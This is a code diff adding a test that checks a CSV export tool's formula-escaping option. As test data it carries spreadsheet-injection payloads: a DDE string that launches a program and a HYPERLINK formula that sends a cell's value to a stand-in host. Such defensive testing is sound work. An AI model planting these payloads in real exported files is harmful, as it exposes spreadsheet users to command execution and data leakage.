@@ -192,6 +192,25 @@ def test_json_lines_come_out_as_rows_unless_one_has_a_field_more(tmp_path):
     assert b"a field 'more', and u.csv has no column of that name among 'id', 'text'" in done.stderr
 
 
+def test_formulas_are_texts_where_that_is_asked_for(tmp_path):
+    """A spreadsheet would calculate them. Numbers are none, and the plain file has what the input has."""
+    formula, name = '=HYPERLINK("http://example.org/"&A1)', "=cmd|' /C calc'!A0"
+    records = [
+        {"id": "-1", "text": FIRST, name: formula, "number": -5, "safe": "a=b"},
+        {"id": "+2", "text": SECOND, name: "@SUM(1)", "number": None, "safe": "\t=1"},
+    ]
+    write_lines(tmp_path / "a.jsonl", records)
+    result(*LOAD, "--escape-formulas", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
+    with (tmp_path / "u.csv").open(newline="", encoding="utf-8") as file:
+        assert list(csv.reader(file)) == [
+            ["id", "text", f"'{name}", "number", "safe"],
+            ["'-1", FIRST, f"'{formula}", "-5", "a=b"],
+            ["'+2", SECOND, "'@SUM(1)", "", "'\t=1"],
+        ]
+    result("dedup", "--unique", "plain.csv", "a.jsonl", cwd=tmp_path)
+    assert f'-1,{FIRST},"=HYPERLINK(""http' in (tmp_path / "plain.csv").read_text()
+
+
 def test_a_load_whose_rows_cannot_be_written_says_what_is_stored(tmp_path):
     write_lines(tmp_path / "a.jsonl", [{"id": "1", "text": FIRST}, {"id": "2", "text": SECOND, "more": 1}])
     done = run(*LOAD, "--yes", "--unique", "u.csv", "a.jsonl", cwd=tmp_path)
